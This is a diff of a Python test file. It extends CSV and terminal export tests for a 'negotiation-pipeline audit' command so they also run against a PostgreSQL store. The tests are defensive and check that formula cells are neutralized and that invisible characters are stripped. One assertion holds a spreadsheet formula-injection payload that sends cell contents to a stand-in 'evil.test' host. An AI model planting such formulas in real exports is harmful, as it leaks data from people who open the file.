@@ -1,6 +1,7 @@
 """Audit export of hostile data through the installed `negotiation-pipeline audit` command over a
-real SQLite file: CSV cells cannot become spreadsheet formulas, and the terminal table shows no
-control, bidi-override or invisible characters that could disguise what an entry says."""
+real SQLite file and a schema on the throwaway PostgreSQL server: CSV cells cannot become
+spreadsheet formulas, and the terminal table shows no control, bidi-override or invisible
+characters that could disguise what an entry says."""
 
 from __future__ import annotations
 
@@ -17,8 +18,8 @@ import pytest
 
 from negotiation_pipeline.domain.audit import AuditEntry
 from negotiation_pipeline.domain.enums import EventType
-from negotiation_pipeline.store import SQLiteStore
 from negotiation_pipeline.store.audit_format import neutralize_formula, printable
+from tests.cli.conftest import CliStore
 
 CLI = Path(sys.executable).parent / "negotiation-pipeline"
 
@@ -47,8 +48,8 @@ def _cli(*args: str) -> CliRun:
 
 
 @pytest.fixture
-def hostile_db(db_path: Path) -> Path:
-    store = SQLiteStore(db_path)
+def hostile_db(cli_store: CliStore) -> str:
+    store = cli_store.open()
     store.audit.insert_many(
         [
             AuditEntry(
@@ -73,11 +74,11 @@ def hostile_db(db_path: Path) -> Path:
         ]
     )
     store.close()
-    return db_path
+    return cli_store.db
 
 
-def test_csv_export_prefixes_every_formula_cell_with_a_quote(hostile_db: Path) -> None:
-    done = _cli("--db", str(hostile_db), "--format", "csv", "--event-type", "email_received")
+def test_csv_export_prefixes_every_formula_cell_with_a_quote(hostile_db: str) -> None:
+    done = _cli("--db", hostile_db, "--format", "csv", "--event-type", "email_received")
     assert done.returncode == 0, done.stderr
     [row] = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
     assert row["influencer_name"] == '\'=HYPERLINK("http://evil.test/?d="&A1,"Open")'
@@ -91,13 +92,13 @@ def test_csv_export_prefixes_every_formula_cell_with_a_quote(hostile_db: Path) -
     assert row["timestamp"] == "2026-03-02T10:00:00.000000Z"  # safe cells are untouched
 
 
-def test_csv_metadata_json_is_neutralized_too(db_path: Path) -> None:
-    store = SQLiteStore(db_path)
+def test_csv_metadata_json_is_neutralized_too(cli_store: CliStore) -> None:
+    store = cli_store.open()
     store.audit.insert(
         AuditEntry(event_type=EventType.ERROR, metadata={"error": "=1+1"}, influencer_name="Bo")
     )
     store.close()
-    done = _cli("--db", str(db_path), "--format", "csv")
+    done = _cli("--db", cli_store.db, "--format", "csv")
     [row] = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
     assert json.loads(row["metadata"]) == {"error": "=1+1"}  # JSON starts with "{": stays valid
     assert row["influencer_name"] == "Bo"
@@ -112,8 +113,8 @@ def test_every_formula_start_is_neutralized(start: str) -> None:
     assert neutralize_formula("") == ""
 
 
-def test_table_strips_control_bidi_and_invisible_characters(hostile_db: Path) -> None:
-    done = _cli("--db", str(hostile_db), "--event-type", "error")
+def test_table_strips_control_bidi_and_invisible_characters(hostile_db: str) -> None:
+    done = _cli("--db", hostile_db, "--event-type", "error")
     assert done.returncode == 0, done.stderr
     out = done.stdout
     for char in BIDI_AND_INVISIBLE + "\x1b\x07":
@@ -132,11 +133,11 @@ def test_printable_keeps_emoji_sequences_and_real_text() -> None:
     assert printable("tag\U000e0041\U000e0042 smuggled") == "tag smuggled"
 
 
-def test_a_carriage_return_inside_a_cell_does_not_split_the_row(db_path: Path) -> None:
-    store = SQLiteStore(db_path)
+def test_a_carriage_return_inside_a_cell_does_not_split_the_row(cli_store: CliStore) -> None:
+    store = cli_store.open()
     store.audit.insert(AuditEntry(event_type=EventType.ERROR, email_body="first\rsecond"))
     store.audit.insert(AuditEntry(event_type=EventType.ERROR, email_body="third"))
     store.close()
-    done = _cli("--db", str(db_path), "--format", "csv")
+    done = _cli("--db", cli_store.db, "--format", "csv")
     rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
     assert [row["email_body"] for row in rows] == ["third", "first\rsecond"]
